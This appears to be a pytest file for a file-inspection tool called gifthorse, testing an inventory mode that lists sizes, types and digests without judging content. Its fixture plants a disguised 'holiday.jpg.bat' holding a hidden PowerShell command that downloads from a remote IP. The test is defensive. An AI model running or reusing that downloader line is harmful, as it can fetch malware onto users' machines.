import hashlib
import json
import pickle
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from gifthorse.cli import obey
from gifthorse.inspect import engine
from gifthorse.inspect.engine import Options
from gifthorse.model.inspections import Inspection, Reason, Verdict
from tests.samples.every_kind import every_kind

BATCH = b"@echo off\r\npowershell -w hidden -c iwr http://198.51.100.7/a\r\n"


@pytest.fixture
def gift(tmp_path: Path) -> Path:
    folder = tmp_path / "gift"
    (folder / "pictures").mkdir(parents=True)
    (folder / "pictures" / "holiday.jpg.bat").write_bytes(BATCH)
    with zipfile.ZipFile(folder / "more.zip", "w") as archive:
        archive.writestr("inside.txt", "a letter")
    return folder


def _listed(path: Path, **options: object) -> Inspection:
    return engine.inspect(str(path), options=Options(inventory=True, **options))  # type: ignore[arg-type]


def test_an_inventory_has_size_type_and_digest_of_every_file_and_opens_none(gift: Path) -> None:
    listed = _listed(gift)
    found = {one.path: (one.size, one.type, one.sha256) for one in listed.contents if not one.folder}
    archive = (gift / "more.zip").read_bytes()
    assert found == {
        "more.zip": (len(archive), "zip", hashlib.sha256(archive).hexdigest()),
        "pictures/holiday.jpg.bat": (len(BATCH), "script", hashlib.sha256(BATCH).hexdigest()),
    }


def test_an_inventory_judges_nothing_and_says_so(gift: Path) -> None:
    listed = _listed(gift)
    assert listed.findings == ()
    assert listed.verdict is Verdict.NOT_INSPECTED
    assert (listed.coverage.items_total, listed.coverage.items_inspected) == (2, 0)
    assert [gap.reason for gap in listed.coverage.not_inspected] == [Reason.NOT_ASKED]
    assert engine.inspect(str(gift)).verdict in {Verdict.DANGEROUS, Verdict.HOSTILE}


def test_an_inventory_is_never_recalled_as_an_inspection(tmp_path: Path) -> None:
    batch, cache = tmp_path / "holiday.jpg.bat", str(tmp_path / "cache")
    batch.write_bytes(BATCH)
    assert _listed(batch, cache=cache).verdict is Verdict.NOT_INSPECTED
    assert engine.inspect(str(batch), options=Options(cache=cache)).findings
    assert _listed(batch, cache=cache).findings == ()


def test_the_command_prints_a_line_for_each_file(gift: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert obey(["inspect", "--inventory", str(gift)]) == 1
    said = capsys.readouterr().out
    assert " ".join(said.split()).startswith("gift: Only listed, as you asked: nothing was looked into, so nothing can be said about it.")
    lines = said.splitlines()
    digest = hashlib.sha256(BATCH).hexdigest()
    assert [line.split() for line in lines if line.endswith(".bat")] == [[digest, str(len(BATCH)), "script", "pictures/holiday.jpg.bat"]]


def test_the_json_document_of_an_inventory_lists_what_is_there(gift: Path, capsys: pytest.CaptureFixture[str]) -> None:
    obey(["inspect", "--inventory", "--json", str(gift)])
    document = json.loads(capsys.readouterr().out)
    assert [one["path"] for one in document["contents"] if not one["folder"]] == ["more.zip", "pictures/holiday.jpg.bat"]


def test_an_inventory_and_a_safe_copy_at_once_are_refused(gift: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert obey(["inspect", "--inventory", "--safe-copy", str(tmp_path / "copy"), str(gift)]) == 2
    assert "Leave --inventory or --safe-copy out." in capsys.readouterr().err


LISTS_WITHOUT_IMPORTS = """
import pickle, sys
from gifthorse.inspect import registry
from gifthorse.inspect.confine.messages import Purpose
registry.load(purpose=Purpose.LIST)
from gifthorse.inspect.content import MemoryContent
from gifthorse.inspect.examine import Examiner, Place
types = []
class Listed:
    def seen(self, fact): types.append(str(fact.filetype))
    def spent(self, part, since): return since
bodies = pickle.load(sys.stdin.buffer)
before = set(sys.modules)
for name, body in bodies.items():
    Examiner(Listed(), inventory=True).examine(MemoryContent(body), Place(path=name, untrusted_name=name))
print(len(types), len(set(types)) > 50, sorted(set(sys.modules) - before), "pikepdf" in before)
"""


def test_an_inventory_loads_no_library_that_looks_into_files_and_needs_none_later() -> None:
    bodies = every_kind()
    run = subprocess.run([sys.executable, "-c", LISTS_WITHOUT_IMPORTS], input=pickle.dumps(bodies), capture_output=True, check=True)
    assert run.stdout.decode().strip() == f"{len(bodies)} True [] False"
